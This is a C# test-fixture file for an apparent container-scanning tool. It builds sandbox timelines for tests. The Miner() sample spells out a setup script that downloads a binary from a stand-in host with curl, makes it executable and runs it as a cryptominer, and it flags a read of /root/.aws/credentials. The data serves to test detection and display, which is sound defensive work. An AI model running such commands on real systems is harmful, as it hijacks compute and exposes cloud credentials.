using System.Globalization;
using DockerScan.Core.Scans;

namespace DockerScan.TestKit.Builders;

/// <summary>What samples did over time.</summary>
public static class SampleTimelines
{
    private static readonly string[] Kinds = ["dns", "connection", "flow", "token", "listener", "file"];

    /// <summary>A server whose start script brings a miner along.</summary>
    public static SandboxTimeline Miner() => new(
        60_000,
        [
            new TimelineBar("/bin/sh /usr/local/bin/docker-entrypoint.sh", 0, 412, 0, false),
            new TimelineBar("/bin/sh /usr/local/bin/setup.sh", 38, 2_950, 0, false),
            new TimelineBar("curl -s http://pool.example/x -o /tmp/x", 120, 2_480, 0, true),
            new TimelineBar("chmod +x /tmp/x", 2_490, 2_492, 0, false),
            new TimelineBar("redis-server *:6379", 412, null, 999, false),
            new TimelineBar("/tmp/x -o pool.example:3333 -u 4AX", 2_600, null, 0, true),
        ],
        [
            new TimelineMark(131, "pool.example", "dns", false),
            new TimelineMark(140, "pool.example:80", "connection", false),
            new TimelineMark(440, "tcp 0.0.0.0:6379", "listener", false),
            new TimelineMark(2_460, "/tmp/x", "file", true),
            .. Enumerable.Range(0, 12).Select(number => new TimelineMark(2_700 + (number * 4_800), "pool.example:3333", "connection", true)),
            new TimelineMark(2_640, "pool.example", "dns", false),
            new TimelineMark(9_100, "/root/.aws/credentials", "token", true),
        ]);

    /// <summary>As much as a timeline may hold, with labels as long as they come.</summary>
    public static SandboxTimeline Crowded() => new(
        60_000,
        [.. Enumerable.Range(0, 40).Select(number => new TimelineBar(
            string.Create(CultureInfo.InvariantCulture, $"/usr/lib/postgresql/16/bin/postgres: 작업자 background worker {number} for database of the customer"),
            number * 731,
            number % 3 == 0 ? null : (number * 731) + (number * number * 17),
            number % 4 == 0 ? 0 : 100_000 + number,
            number % 9 == 4))],
        [.. Enumerable.Range(0, 200).Select(number => new TimelineMark(
            number * 299,
            string.Create(CultureInfo.InvariantCulture, $"host-{(number * 7) % 61}.a-rather-long-name-of-a-zone.example.com:443"),
            Kinds[number % 13 % Kinds.Length],
            number % 37 == 3))]);
}
